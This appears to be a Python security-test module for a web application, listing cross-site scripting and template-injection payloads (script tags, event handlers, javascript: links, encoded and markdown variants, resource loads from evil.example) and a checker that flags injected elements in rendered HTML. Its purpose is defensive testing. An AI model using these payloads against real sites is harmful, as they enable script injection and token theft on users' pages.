"""Text that wants to be run, and what of it would be seen on a page that let it."""

import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

from lxml import html

# What each payload wants to do: a browser's test looks whether it was done.
DO = "window.__x=1"
# Short enough for any field: ends whatever it stands in, and begins an element.
SHORT = f"'\"><img src=x onerror={DO}>"
PAYLOADS = (
    f"<script>{DO}</script>",
    f"</script><script>{DO}</script>",
    f"</textarea><script>{DO}</script>",
    f"</title><script>{DO}</script>",
    f"</style></select></noscript><script>{DO}</script>",
    f"<!--<img src='--><img src=x onerror={DO}>'>",
    f"]]><script>{DO}</script>",
    f"<img src=x onerror={DO}>",
    f'"><svg onload={DO}>',
    f"'><svg onload={DO}>",
    f'" autofocus onfocus={DO} x="',
    f"' autofocus onfocus={DO} x='",
    f"` onclick={DO} `",
    f"<details open ontoggle={DO}>",
    f"<video><source onerror={DO}></video>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={DO}>",
    f'<iframe srcdoc="<script>parent.{DO}</script>"></iframe>',
    f"<iframe src=javascript:parent.{DO}></iframe>",
    '<object data="data:text/html,<script>parent.__x=1</script>"></object>',
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{DO}">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style=background:url(//evil.example/x)>",
    "<form action=//evil.example/><input name=csrfmiddlewaretoken></form>",
    f"<a href=javascript:{DO}>x</a>",
    f"<a href='java\tscript:{DO}'>x</a>",
    f"javascript:{DO}",
    f"[x](javascript:{DO})",
    f"[x](data:text/html,<script>{DO}</script>)",
    f'![x](x" onerror="{DO})',
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
    f"%3Cscript%3E{DO}%3C/script%3E",
    f"＜script＞{DO}＜/script＞",
    "zq{{7*7}}zq{% debug %}${7*7}zq#{7*7}zq",
    "\u202eevil\u202c \u2066<\u2069",
)
# What `zq{{7*7}}zq` comes to where it is taken for a template.
COMPUTED = "zq49zq"

NEVER = {
    *("iframe", "object", "embed", "applet", "base", "frame", "math", "animate", "video", "style"),
    *("mglyph", "source"),
}
ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href"}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
DATA = {"application/json", "importmap", "speculationrules"}


def find_introduced(body: str) -> Iterator[str]:
    """What stands in the page that none of our templates writes."""
    if COMPUTED in body:
        yield "computed"
    for element in html.document_fromstring(body or "<p>").iter():
        if isinstance(element.tag, str):
            yield from _judge(element)


def _judge(element: Any) -> Iterator[str]:
    tag = element.tag.lower()
    if tag in NEVER:
        yield f"<{tag}>"
    if tag == "script" and not _is_ours(element):
        yield f"<script> {element.text}"
    if tag == "meta" and "http-equiv" in element.attrib:
        yield "<meta http-equiv>"
    for name, value in element.attrib.items():
        if name.startswith("on") or name in {"style", "srcdoc"}:
            yield f"<{tag} {name}>"
        if name in ADDRESSES and not _is_harmless(value):
            yield f"<{tag} {name}={value}>"


def _is_ours(script: Any) -> bool:
    """From our own files, or data that a script reads."""
    if "src" in script.attrib:
        return not (script.text or "").strip()
    if script.get("type") not in DATA:
        return False
    json.loads(script.text or "null")
    return True


def _is_harmless(address: str) -> bool:
    # As browsers do: blanks at the ends, and tabs and line ends anywhere, count for nothing.
    read = "".join(sign for sign in address.strip() if sign not in "\t\r\n")
    if read.startswith("data:image/"):
        return True
    if read.startswith(("//", "\\", "/\\")) or "evil.example" in urlsplit(read).netloc:
        return False
    scheme = SCHEME.match(read)
    return scheme is None or scheme[1].lower() in {"http", "https", "mailto"}
